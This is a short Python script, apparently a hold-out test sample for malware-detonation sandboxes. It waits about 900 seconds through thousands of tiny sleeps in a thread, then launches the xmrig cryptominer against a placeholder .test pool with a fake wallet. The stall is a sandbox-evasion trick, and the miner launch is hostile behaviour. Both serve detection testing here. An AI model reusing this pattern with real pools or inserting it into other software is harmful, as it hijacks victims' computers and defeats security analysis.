#!/usr/bin/python3
"""Waits about 900 s as time.sleep(0.005) 180,000 times in a worker thread that main joins,
then mines (detonate hold-out test sample; harmless, fake wallet, .test pool)."""

import os
import threading
import time

ROUNDS = 180000 // int(os.environ.get("PYSHORT_SCALE", "1"))
MINER = os.environ.get("PYSHORT_MINER", "/usr/local/bin/xmrig")
POOL = "stratum+tcp://pool.short.test:3333"
WALLET = "47sh0rtSt3psFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"  # noqa: E501


def count_down() -> None:
    for _ in range(ROUNDS):
        time.sleep(0.005)


print(f"waiting 900 s in {ROUNDS} time.sleep(0.005) rounds in a thread", flush=True)
started = time.monotonic()
worker = threading.Thread(target=count_down, daemon=True)
worker.start()
worker.join()
print(f"waited {time.monotonic() - started:.1f} s; starting the miner", flush=True)
os.execv(MINER, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
